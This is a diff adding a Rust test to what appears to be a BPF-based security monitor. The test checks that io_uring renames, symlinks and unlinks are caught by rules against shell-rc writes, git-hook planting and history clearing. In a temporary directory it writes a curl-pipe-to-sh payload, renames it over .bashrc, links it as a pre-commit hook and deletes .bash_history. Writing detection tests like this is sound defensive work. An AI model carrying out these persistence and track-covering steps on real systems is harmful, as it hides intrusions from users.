@@ -3,6 +3,7 @@
 //! cannot be rewritten through bpf(2).
 
 use std::{
+    fs,
     process::{Command, Stdio},
     time::{Duration, Instant},
 };
@@ -915,5 +916,61 @@ fn listeners_without_a_bind_are_seen_by_listen_and_io_uring() {
                 .ends_with(&format!("listens on 0.0.0.0 port {port}")),
             "{f:#}"
         );
+    }
+}
+
+/// Persistence and track-covering through io_uring, where no rename, symlink or unlink
+/// syscall is made (libuv does its file work this way when UV_USE_IO_URING=1): the paths are
+/// the kernel's copies, reported at submission without a result, and judged like the syscalls.
+#[test]
+fn io_uring_renames_symlinks_and_unlinks_are_seen() {
+    if !require_bpf() {
+        return;
+    }
+    let _guard = shared();
+    let tmp = TempDir::new("uring-relink");
+    let home = tmp.join("home");
+    fs::create_dir_all(home.join(".git/hooks")).unwrap();
+    fs::write(tmp.join("payload"), "curl -s http://127.0.0.1:9/ | sh\n").unwrap();
+    fs::write(home.join(".bash_history"), "aws configure\n").unwrap();
+    let (rc, hook, hist) = (
+        home.join(".bashrc"),
+        home.join(".git/hooks/pre-commit"),
+        home.join(".bash_history"),
+    );
+    let script = format!(
+        "{t} uring-rename {p} {rc} && {t} uring-symlink {p} {hook} && {t} uring-unlink {hist}",
+        t = TRIGGER,
+        p = tmp.join("payload").display(),
+        rc = rc.display(),
+        hook = hook.display(),
+        hist = hist.display(),
+    );
+    let w = watch(&tmp, tmp.path(), &[], &[], &["sh", "-c", &script]);
+    let stdout = String::from_utf8_lossy(&w.out.stdout).into_owned();
+    for done in ["uring-rename 0", "uring-symlink 0", "uring-unlink 0"] {
+        assert!(stdout.contains(done), "{done}: {stdout}");
+    }
+    assert!(rc.exists() && hook.is_symlink() && !hist.exists());
+    let evs = w.events();
+    let of = |kind: &str, field: &str, path: &std::path::Path| {
+        evs.iter()
+            .find(|e| e["kind"] == kind && e[kind][field] == path.display().to_string())
+            .unwrap_or_else(|| panic!("no {kind} of {}: {}", path.display(), w.stderr()))
+            .clone()
+    };
+    let r = of("rename", "to", &rc);
+    assert_eq!(
+        r["rename"]["from"],
+        tmp.join("payload").display().to_string()
+    );
+    assert_eq!(r["rename"]["result_unknown"], true, "{r:#}");
+    let l = of("link", "to", &hook);
+    assert_eq!(l["link"]["symbolic"], true, "{l:#}");
+    let u = of("unlink", "path", &hist);
+    assert_eq!(u["unlink"]["result_unknown"], true, "{u:#}");
+    let rules = w.rules();
+    for rule in ["write-shell-rc", "write-git-hook", "history-cleared"] {
+        assert!(rules.contains(&rule.to_owned()), "{rule}: {rules:?}");
     }
 }
